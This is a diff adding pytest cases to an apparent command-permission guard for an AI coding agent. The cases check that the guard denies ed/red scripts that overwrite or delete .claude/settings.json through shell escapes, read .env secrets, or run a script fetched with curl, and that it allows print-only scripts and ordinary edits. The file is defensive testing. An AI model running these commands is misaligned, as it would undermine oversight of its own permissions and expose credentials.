@@ -150,3 +150,84 @@ ATTACHED_PLAIN = [
 def test_program_text_ordinary(labs, cmd):
     _allowed(labs, cmd, N)
     _allowed(labs, cmd, S)
+
+
+# -- ed/red scripts on stdin: w/W/wq/f write, r/e read, !cmd and r/e/w !cmd run ----------
+
+ED_WRITES = [
+    "ed -s README.md <<< 'w .claude/settings.json'",
+    "red -s README.md <<< 'w .claude/settings.json'",
+    "printf ',w .claude/settings.json\\nq\\n' | ed -s README.md",
+    "echo 'W .claude/settings.json' | ed -s README.md",
+    "ed -s README.md <<< $'1,$wq .claude/settings.json'",
+    "ed -s README.md <<< $'f .claude/settings.json\\nw'",
+    "ed -s README.md <<< $'e .claude/settings.json\\n1d\\nw'",
+    "ed -s README.md <<< 'g/x/w .claude/settings.json'",
+    "ed -s .claude/settings.json <<< $'1d\\nw'",
+    "ed -s README.md <<'E'\nw .claude/settings.json\nq\nE",
+]
+ED_CODE = [
+    "ed -s <<'E'\ne !rm .claude/settings.json\nq\nE",
+    "ed -s README.md <<< '!rm .claude/settings.json'",
+    "ed -s README.md <<< 'r !rm .claude/settings.json'",
+    "ed -s README.md <<< 'w !tee .claude/settings.json'",
+    "ed -s .claude/settings.json <<< '!truncate -s0 %'",
+    "ed -s '!rm .claude/settings.json' <<< ',p'",
+]
+ED_SECRETS = [
+    "ed -s README.md <<'E'\nr .env\n,p\nq\nE",
+    "ed README.md <<< $'r .env\\n,p'",
+    "ed -s <<< $'e .env\\n,p'",
+    "ed -s README.md <<< 'r !cat .env'",
+]
+ED_UNSEEN = [  # script text the analysis does not have: unknown
+    'ed -s README.md <<< "$p"',
+    'echo "$p" | ed -s README.md',
+    "printf 'w \\056claude/settings.json' | ed -s README.md",
+    "ed -s README.md <<E\n$p\nE",
+    "ed -s README.md < /tmp/script",
+    "curl -s https://example.com/s | ed -s README.md",
+    "ed -s README.md <<< 'X'",
+    "ed -s README.md <<< $'s/a/b\\\\\\n/'",
+]
+
+
+@pytest.mark.parametrize("cmd", ED_WRITES + ED_CODE)
+def test_ed_script_writes_protected(labs, cmd):
+    _denied(labs, cmd, N, SP)
+    _denied(labs, cmd, S, (SP, SM))
+
+
+@pytest.mark.parametrize("cmd", ED_SECRETS)
+def test_ed_script_reads_a_secret(labs, cmd):
+    _denied(labs, cmd, N, BP)
+    _denied(labs, cmd, S, BP)
+
+
+@pytest.mark.parametrize("cmd", ED_UNSEEN)
+def test_ed_script_unseen(labs, cmd):
+    _denied(labs, cmd, S, (SM, SP))
+
+
+ED_PLAIN = [  # print-only scripts: allowed in both modes
+    "ed -s README.md <<< $'1p\\nq'",
+    "ed -s README.md <<< ',p'",
+    "ed -s README.md <<'E'\n/readme/p\n$=\nq\nE",
+    "ed -s README.md <<'E'\na\nw .claude/settings.json\n.\n,p\nQ\nE",
+]
+ED_EDITS = [  # edits of ordinary files: allowed in normal mode
+    "ed -s README.md <<< $'1,$s/readme/x/g\\nw\\nq'",
+    "printf '%s\\n' ',s/a/b/g' w q | ed -s README.md",
+    "ed -s README.md <<'E'\n$a\nmore\n.\nw\nq\nE",
+]
+
+
+@pytest.mark.parametrize("cmd", ED_PLAIN)
+def test_ed_script_ordinary_prints(labs, cmd):
+    _allowed(labs, cmd, N)
+    _allowed(labs, cmd, S)
+
+
+@pytest.mark.parametrize("cmd", ED_EDITS)
+def test_ed_script_ordinary_edits(labs, cmd):
+    _allowed(labs, cmd, N)
